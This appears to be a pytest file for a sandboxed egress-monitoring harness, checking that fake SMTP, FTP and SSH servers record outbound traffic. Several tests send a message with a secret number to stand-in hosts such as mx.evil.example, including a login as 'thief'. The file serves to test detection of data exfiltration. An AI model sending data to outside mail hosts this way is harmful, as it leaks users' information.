"""The SMTP sink and the greeters of other server-first protocols."""

from __future__ import annotations

from typing import Any

import pytest

pytestmark = pytest.mark.docker

MAIL = """
from email.message import EmailMessage
message = EmailMessage()
message["From"], message["To"], message["Subject"] = "a@midori.example", "b@evil.example", "numbers"
message.set_content("the number is 1234")
"""


def test_mail_on_25_is_told_with_its_envelope(world: Any, client: Any) -> None:
    """A plain session on port 25 is one event that holds commands and message."""
    client.run(MAIL + 'with smtplib.SMTP("mx.evil.example", 25, timeout=5) as mail: mail.send_message(message)')
    events = world.egress()
    assert events[0]["protocol"] == "smtp" and events[0]["host"] == "mx.evil.example"
    assert events[0]["summary"] == "from a@midori.example to b@evil.example"
    assert b"rcpt TO:<b@evil.example>" in events[0]["payload"] and b"the number is 1234" in events[0]["payload"]


def test_submission_with_starttls_and_login(world: Any, client: Any) -> None:
    """On 587 STARTTLS verifies, any login is accepted, and all is told decrypted."""
    client.run(
        MAIL
        + """
with smtplib.SMTP("smtp.evil.example", 587, timeout=5) as mail:
    mail.starttls(context=ssl.create_default_context())
    mail.login("thief", "hunter2")
    mail.send_message(message)
"""
    )
    told = next(event for event in world.egress() if event["summary"].startswith("from "))
    assert told["summary"].endswith("logged in as thief") and told["port"] == 587
    assert b"AUTH" in told["payload"] and b"the number is 1234" in told["payload"]


def test_submission_over_tls_from_the_start(world: Any, client: Any) -> None:
    """Port 465 speaks TLS first."""
    client.run(MAIL + 'with smtplib.SMTP_SSL("smtp.evil.example", 465, timeout=5) as mail: mail.send_message(message)')
    assert any(b"the number is 1234" in event["payload"] for event in world.egress())


def test_ftp_and_ssh_greet(world: Any, client: Any) -> None:
    """A password sent to an FTP server is told; an SSH server shows its version."""
    client.run("""
ftp = socket.create_connection(("203.0.113.30", 21), timeout=5)
greeting = ftp.recv(100)
ftp.sendall(b"USER bob\\r\\n"); ftp.recv(100)
ftp.sendall(b"PASS letmein\\r\\n"); reply = ftp.recv(100); ftp.close()
ssh = socket.create_connection(("203.0.113.30", 22), timeout=5)
version = ssh.recv(100); ssh.sendall(b"SSH-2.0-test\\r\\n"); ssh.close()
result = [greeting.decode(), reply.decode(), version.decode()]
""")
    events = world.egress()
    assert b"".join(event["payload"] for event in events if event["port"] == 21) == b"USER bob\r\nPASS letmein\r\n"
    assert any(event["payload"] == b"SSH-2.0-test\r\n" for event in events)


def test_garbage_smtp_is_survived(world: Any, client: Any) -> None:
    """Binary, endless lines and commands out of order are told and answered by errors."""
    client.run("""
for junk in (b"\\x00\\xff" * 500 + b"\\r\\n", b"A" * 200000, b"DATA\\r\\n.\\r\\nMAIL\\r\\nAUTH PLAIN =\\r\\n"):
    try:
        mail = socket.create_connection(("203.0.113.31", 25), timeout=1)
        mail.recv(1000); mail.sendall(junk); mail.recv(1000)
    except OSError:
        pass
    mail.close()
""")
    assert sum(event["size"] for event in world.egress()) > 200000
    assert client.run('result = talk("203.0.113.31", 25, b"")').startswith("220 ")
